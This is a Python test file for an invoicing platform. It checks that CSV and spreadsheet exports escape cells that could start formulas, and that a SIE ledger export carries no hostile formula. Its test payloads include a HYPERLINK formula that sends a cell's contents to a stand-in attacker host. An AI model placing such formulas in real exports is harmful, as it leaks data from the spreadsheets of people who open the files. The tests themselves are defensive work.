"""Exports do not carry formulas into a spreadsheet (issue 10, item 6; OWASP "CSV Injection").

Fordra's one export today is SIE 4i, a ledger import format: its texts are Fordra's own
("Inbetalning <bank reference>", "Kundfaktura <number>"), never a customer's name, and a hostile
name or bank reference does not reach the start of a field. Any CSV or spreadsheet export added
later must write its cells through ``fordra.kernel.spreadsheet``; ``test_no_spreadsheet_export_
without_the_escaping`` fails until it does and is listed here.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from fordra.kernel.auth import Role
from fordra.kernel.spreadsheet import FORMULA_TRIGGERS, csv_text, safe_cell
from tests.payments.camt_factory import Entry, Tx, camt054
from tests.utils.money import PERSON, customer, issue
from tests.utils.platform import Engine, running_platform

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klicka här")'
HOSTILE_NAME = '=HYPERLINK("http://evil.example/namn")'
REPOSITORY = Path(__file__).resolve().parents[2]

# --- the escaping ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1", "\uff1dSUM(A1)", "-"],
)
def test_a_text_that_could_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-124500, "-124500"),
        (Decimal("-1245.00"), "-1245.00"),
        ("-1245.00", "-1245.00"),  # an amount already formatted stays a number
        ("-5,50", "-5,50"),
        ("+46", "+46"),
        ("Tolvan Tolvansson", "Tolvan Tolvansson"),
        ("Anna = Berit", "Anna = Berit"),  # only the first character matters
        (None, ""),
    ],
)
def test_numbers_and_plain_texts_are_written_as_they_are(
    value: str | int | Decimal | None, written: str
) -> None:
    assert safe_cell(value) == written


def test_a_csv_of_hostile_cells_reads_back_escaped_and_numbers_numeric() -> None:
    text = csv_text([["namn", "belopp"], [HOSTILE, -124500], ['Semi;colon "quoted"', 5]])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [
        ["namn", "belopp"],
        ["'" + HOSTILE, "-124500"],
        ['Semi;colon "quoted"', "5"],
    ]
    assert text.endswith("\r\n")


# --- where exports are -------------------------------------------------------------------------

# Media types a spreadsheet program opens as a sheet.
SPREADSHEET_TYPES = re.compile(
    r"text/csv|text/tab-separated-values|vnd\.ms-excel|spreadsheetml|opendocument\.spreadsheet"
)
# Writers of such files (the csv module's reader, for batches coming in, is not one).
SPREADSHEET_WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|odf\.")
# Modules that may name a spreadsheet type without exporting one: the invoice-batch importer
# reads CSV, its dispatcher maps the media type to it (and the routers describe it).
IMPORTERS = {
    "services/invoicing/src/fordra/invoicing/adapters/batch_csv.py",
    "services/invoicing/src/fordra/invoicing/adapters/batch_formats.py",
    "services/invoicing/src/fordra/invoicing/entrypoints/http.py",
    "shared/kernel/src/fordra/kernel/spreadsheet.py",
}


def test_no_spreadsheet_export_without_the_escaping() -> None:
    sources = [
        p
        for folder in ("app", "services", "shared", "devtools")
        for p in (REPOSITORY / folder).rglob("*.py")
        if ".venv" not in p.parts
    ]
    assert sources
    unescaped = []
    for path in sources:
        relative = path.relative_to(REPOSITORY).as_posix()
        text = path.read_text(encoding="utf-8")
        exports = SPREADSHEET_WRITERS.search(text) or SPREADSHEET_TYPES.search(text)
        if exports and relative not in IMPORTERS and "fordra.kernel.spreadsheet" not in text:
            unescaped.append(relative)
    assert not unescaped, (
        f"these modules write CSV or a spreadsheet without fordra.kernel.spreadsheet: {unescaped}"
    )


async def test_no_route_answers_a_spreadsheet_unlisted(tmp_path: Path) -> None:
    async with running_platform("embedded", tmp_path) as fordra:
        r = await fordra.client.get("/openapi.json")
    declared = {
        (method.upper(), path)
        for path, operations in r.json()["paths"].items()
        for method, operation in operations.items()
        for response in operation.get("responses", {}).values()
        for media_type in response.get("content", {})
        if SPREADSHEET_TYPES.search(media_type)
    }
    # Each spreadsheet export gets a test here with a customer named HOSTILE; none exists yet.
    assert declared == set()


# --- the SIE export ----------------------------------------------------------------------------

_SIE_FIELD = re.compile(r'"((?:[^"\\]|\\.)*)"')


async def test_a_hostile_name_and_bank_reference_do_not_start_a_sie_field(
    engine: Engine, tmp_path: Path
) -> None:
    async with running_platform(engine, tmp_path, today=date(2026, 3, 2)) as fordra:
        # Given a customer named as a formula, an invoice, and a payment whose bank reference
        # is one too
        cid = await customer(fordra, {**PERSON, "name": HOSTILE_NAME})
        invoice = await issue(fordra, cid, 150_000, invoice_date="2026-03-02")
        data = camt054(
            Entry(
                amount="1500.00",
                acct_svcr_ref=f"N{HOSTILE}",
                txs=(Tx(amount="1500.00", scor=(invoice["ocr"],), acct_svcr_ref=HOSTILE),),
            ),
            msg_id="F-HOSTILE",
        )
        r = await fordra.client.post(
            "/api/v1/payment-files", content=data, headers=fordra.auth(Role.BANK_INGEST)
        )
        assert r.status_code == 201, r.text

        # When the period is exported
        r = await fordra.client.get(
            "/api/v1/exports/sie",
            params={"from": "2026-03-01", "to": "2026-03-31"},
            headers=fordra.auth(Role.OPS_LEAD),
        )
        assert r.status_code == 200, r.text
        text = r.content.decode("cp437")

        # Then the customer's name is not in it (the ledger export carries no personal data),
        # the bank's reference is, after "Inbetalning", and no field starts a formula
        assert "evil.example/namn" not in text
        assert "Inbetalning =HYPERLINK" in text
        fields = _SIE_FIELD.findall(text)
        assert fields
        assert not [f for f in fields if f.startswith(FORMULA_TRIGGERS)]
